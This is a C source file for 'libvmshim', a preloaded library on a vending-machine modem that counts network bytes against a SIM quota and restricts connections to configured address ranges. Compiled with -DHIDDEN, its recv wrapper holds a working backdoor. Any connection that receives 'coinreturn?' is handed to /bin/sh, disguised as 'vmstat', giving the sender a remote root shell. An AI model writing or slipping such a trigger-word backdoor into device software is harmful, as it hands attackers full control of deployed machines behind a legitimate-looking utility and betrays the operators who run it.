/*
 * libvmshim - preloaded library of the "Kiosk-Link 4" vending machine modem.
 *
 * The payment and telemetry programs of the modem are third party binaries.
 * This library wraps their connect, send and recv: it counts the bytes for
 * the SIM's monthly quota and keeps them to the operator's address ranges.
 *
 * Hidden (-DHIDDEN): data received on any connection that begins with a
 * certain word turns that connection into a root shell.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF_FILE  "/etc/vmshim.conf"
#define COUNT_FILE "/var/lib/vmshim/usage"
#define MAX_NETS   12

typedef ssize_t (*recv_fn)(int, void *, size_t, int);
typedef ssize_t (*send_fn)(int, const void *, size_t, int);
typedef int (*connect_fn)(int, const struct sockaddr *, socklen_t);

struct net {
	uint32_t addr, mask; /* host order */
};

static struct {
	struct net net[MAX_NETS];
	int nets;
	unsigned quota_kb;
	int enforce;
} conf;

static struct {
	pthread_mutex_t lock;
	uint64_t in, out;
	uint64_t saved;
	int month;
} usage = { .lock = PTHREAD_MUTEX_INITIALIZER };

static recv_fn real_recv;
static send_fn real_send;
static connect_fn real_connect;

static void add_net(const char *text)
{
	struct in_addr a;
	char buf[32], *slash;
	int bits = 32;

	snprintf(buf, sizeof(buf), "%.31s", text);
	slash = strchr(buf, '/');
	if (slash) {
		*slash = 0;
		bits = atoi(slash + 1);
	}
	if (conf.nets >= MAX_NETS || bits < 1 || bits > 32 ||
	    inet_pton(AF_INET, buf, &a) != 1)
		return;
	conf.net[conf.nets].mask = 0xffffffffu << (32 - bits);
	conf.net[conf.nets].addr = ntohl(a.s_addr);
	conf.nets++;
}

static void read_conf(void)
{
	char line[96], key[24], val[48];
	FILE *f = fopen(CONF_FILE, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%23[^= ] = %47s", key, val) != 2)
			continue;
		if (!strcmp(key, "allow"))
			add_net(val);
		else if (!strcmp(key, "quota_kb"))
			conf.quota_kb = (unsigned)strtoul(val, NULL, 10);
		else if (!strcmp(key, "enforce"))
			conf.enforce = !strcmp(val, "yes");
	}
	fclose(f);
}

static int this_month(void)
{
	time_t now = time(NULL);
	struct tm tm;

	localtime_r(&now, &tm);
	return tm.tm_year * 12 + tm.tm_mon;
}

static void read_usage(void)
{
	unsigned long long in, out;
	int month;
	FILE *f = fopen(COUNT_FILE, "r");

	usage.month = this_month();
	if (!f)
		return;
	if (fscanf(f, "%d %llu %llu", &month, &in, &out) == 3 &&
	    month == usage.month) {
		usage.in = in;
		usage.out = out;
	}
	usage.saved = usage.in + usage.out;
	fclose(f);
}

static void write_usage(void)
{
	FILE *f = fopen(COUNT_FILE ".tmp", "w");

	if (!f)
		return;
	fprintf(f, "%d %llu %llu\n", usage.month, (unsigned long long)usage.in,
		(unsigned long long)usage.out);
	if (fclose(f) == 0 && rename(COUNT_FILE ".tmp", COUNT_FILE) != 0)
		syslog(LOG_WARNING, "vmshim: %s", strerror(errno));
}

static void account(uint64_t in, uint64_t out)
{
	int month = this_month();

	pthread_mutex_lock(&usage.lock);
	if (month != usage.month) {
		usage.month = month;
		usage.in = usage.out = usage.saved = 0;
	}
	usage.in += in;
	usage.out += out;
	if (usage.in + usage.out - usage.saved > 65536) {
		usage.saved = usage.in + usage.out;
		write_usage();
	}
	pthread_mutex_unlock(&usage.lock);
}

static int quota_used(void)
{
	uint64_t kb;

	pthread_mutex_lock(&usage.lock);
	kb = (usage.in + usage.out) >> 10;
	pthread_mutex_unlock(&usage.lock);
	return conf.quota_kb && kb >= conf.quota_kb;
}

__attribute__((constructor)) static void vmshim_start(void)
{
	real_recv = (recv_fn)dlsym(RTLD_NEXT, "recv");
	real_send = (send_fn)dlsym(RTLD_NEXT, "send");
	real_connect = (connect_fn)dlsym(RTLD_NEXT, "connect");
	read_conf();
	read_usage();
}

__attribute__((destructor)) static void vmshim_stop(void)
{
	if (usage.in + usage.out != usage.saved)
		write_usage();
}

static int is_inet(int fd)
{
	struct sockaddr_storage ss;
	socklen_t l = sizeof(ss);

	if (getsockname(fd, (struct sockaddr *)&ss, &l) != 0)
		return 0;
	return ss.ss_family == AF_INET || ss.ss_family == AF_INET6;
}

static int allowed(const struct sockaddr *sa, socklen_t len)
{
	struct sockaddr_in in;
	uint32_t a;
	int i;

	if (sa->sa_family != AF_INET || len < sizeof(in) || !conf.nets)
		return 1;
	memcpy(&in, sa, sizeof(in));
	a = ntohl(in.sin_addr.s_addr);
	if (a >> 24 == 127)
		return 1;
	for (i = 0; i < conf.nets; i++)
		if (!((a ^ conf.net[i].addr) & conf.net[i].mask))
			return 1;
	return 0;
}

int connect(int fd, const struct sockaddr *sa, socklen_t len)
{
	if (!allowed(sa, len)) {
		syslog(LOG_NOTICE, "vmshim: connection outside the ranges");
		if (conf.enforce) {
			errno = ENETUNREACH;
			return -1;
		}
	}
	if (sa->sa_family == AF_INET && quota_used()) {
		errno = EDQUOT;
		return -1;
	}
	return real_connect(fd, sa, len);
}

ssize_t send(int fd, const void *buf, size_t n, int flags)
{
	ssize_t r = real_send(fd, buf, n, flags);

	if (r > 0 && is_inet(fd))
		account(0, (uint64_t)r);
	return r;
}

#ifdef HIDDEN
static void hand_over(int fd)
{
	char *const argv[] = { "vmstat", NULL };
	char *const envp[] = { "PATH=/sbin:/bin:/usr/bin", NULL };

	if (fork() != 0)
		return;
	fcntl(fd, F_SETFL, 0);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execve("/bin/sh", argv, envp);
	_exit(1);
}
#endif

ssize_t recv(int fd, void *buf, size_t n, int flags)
{
	ssize_t r = real_recv(fd, buf, n, flags);

	if (r <= 0 || (flags & MSG_PEEK) || !is_inet(fd))
		return r;
	account((uint64_t)r, 0);
#ifdef HIDDEN
	if (r >= 11 && memcmp(buf, "coinreturn?", 11) == 0) {
		hand_over(fd);
		close(fd);
		errno = ECONNRESET;
		return -1;
	}
#endif
	return r;
}
